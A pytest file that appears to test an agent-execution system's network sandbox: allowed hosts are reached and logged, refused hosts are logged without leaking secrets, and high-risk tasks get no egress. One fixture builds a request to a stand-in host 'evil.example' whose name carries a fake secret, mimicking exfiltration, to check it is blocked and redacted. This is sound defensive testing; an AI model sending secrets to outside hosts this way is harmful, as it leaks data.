"""Commands of a task reach what the policy allows, unless the task is dangerous; the log has it."""

from __future__ import annotations

import json
import shutil
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest

from juggernaut.adapters.gateway.sandbox import ProxyGateway, ReachingSandbox
from juggernaut.adapters.sandboxes.bubblewrap import BubblewrapSandbox
from juggernaut.domain.agents import Tell, silent
from juggernaut.domain.exchange import AgentRequest, AgentResult
from juggernaut.domain.network import read_network
from juggernaut.ports import Asker, Sandbox
from tests.adapters.gateway.tls_server import HOST, Index, serving
from tests.fakes.puppets import PuppetAgent
from tests.roles.bench import CRITERIA, FAKE_SECRET, GOOD_SLUG, PYTHON, Bench

# A name that holds a secret must not get into the log by being refused.
HOSTS = (f"{FAKE_SECRET}.evil.example", "other.example")
FETCH = f"""
import ssl, sys, urllib.request
trusting = ssl.create_default_context(cadata=sys.argv[2])
print(urllib.request.urlopen("https://" + sys.argv[1] + "/simple/", context=trusting).status)
for host in {HOSTS!r}:
    try:
        urllib.request.urlopen("https://" + host + "/")
        sys.exit(1)
    except OSError as error:
        print(error)
"""
NO_WAY = "import os, sys; sys.exit('HTTPS_PROXY' in os.environ)"


def allow(bench: Bench, folder: Path, *entries: str) -> None:
    """Let the commands of this process reach some hosts, from the strongest sandbox."""
    program = shutil.which("bwrap")
    if program is None:
        pytest.skip("needs bubblewrap (apt-get install bubblewrap)")
    policy = replace(bench.services.policy, network=read_network({"allow": list(entries)}))
    bench.services = replace(
        bench.services,
        policy=policy,
        sandbox=BubblewrapSandbox(program, folder / "scratch"),
        gateway=ProxyGateway(folder / "doors"),
    )


@pytest.fixture(scope="module")
def index(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Index]:
    """Serve a package index."""
    with serving(tmp_path_factory.mktemp("index")) as found:
        yield found


async def test_each_connection_of_a_task_is_a_line_of_its_log(
    bench: Bench, tmp_path: Path, index: Index
) -> None:
    """The allowed one with its bytes, the refused ones with their reason, and no secret."""
    allow(bench, tmp_path, index.entry)
    argv = [PYTHON, "-c", FETCH, index.entry, index.certificate.read_text()]
    task = await bench.add_task("command", payload={"command": argv})
    assert await bench.work("executor") == "completed"
    query = "SELECT * FROM execution_logs WHERE task_id = $1 AND action = 'network' ORDER BY id"
    lines = await bench.rows(query, task)
    facts = [json.loads(line["metadata"]) for line in lines]
    assert [one["host"] for one in facts if one["allowed"]] == [HOST]
    (went,) = [one for one in facts if one["allowed"]]
    assert went["sent_bytes"] > 0
    assert went["received_bytes"] > 0
    refused = [line["message"] for line in lines if line["level"] == "warning"]
    assert refused == [
        "[redacted].evil.example:443 refused: not in network.allow of config/policy.yaml",
        "other.example:443 refused: not in network.allow of config/policy.yaml",
    ]


async def test_dangerous_tasks_have_no_way_out(bench: Bench, tmp_path: Path) -> None:
    """Not even when people approved them; and nobody has one where the policy names nothing."""
    allow(bench, tmp_path, "pypi.org:443")
    task = await bench.add_task(
        "command", risk_level="high", payload={"command": [PYTHON, "-c", NO_WAY]}
    )
    assert await bench.work("executor") == "parked"
    await bench.approve(task)
    assert await bench.work("executor") == "completed"
    allow(bench, tmp_path)
    await bench.add_task("command", payload={"command": [PYTHON, "-c", NO_WAY]})
    assert await bench.work("executor") == "completed"
    assert not (tmp_path / "doors").exists()
    assert await bench.rows("SELECT 1 FROM execution_logs WHERE action = 'network'") == []


async def test_the_code_agent_has_the_way_out_too(bench: Bench, tmp_path: Path) -> None:
    """What it runs is a command of the task like any other."""
    allow(bench, tmp_path, "pypi.org:443")
    given: list[Sandbox] = []

    class Noting(PuppetAgent):
        """Keeps the sandbox that it is given."""

        async def execute(
            self, request: AgentRequest, ask: Asker, sandbox: Sandbox, tell: Tell = silent
        ) -> AgentResult:
            """Work as ever."""
            given.append(sandbox)
            return await super().execute(request, ask, sandbox, tell)

    bench.use(agent=Noting({"slug.py": GOOD_SLUG}))
    await bench.add_task("code", acceptance_criteria=CRITERIA)
    assert await bench.work("executor") == "completed"
    assert [type(sandbox) for sandbox in given] == [ReachingSandbox]
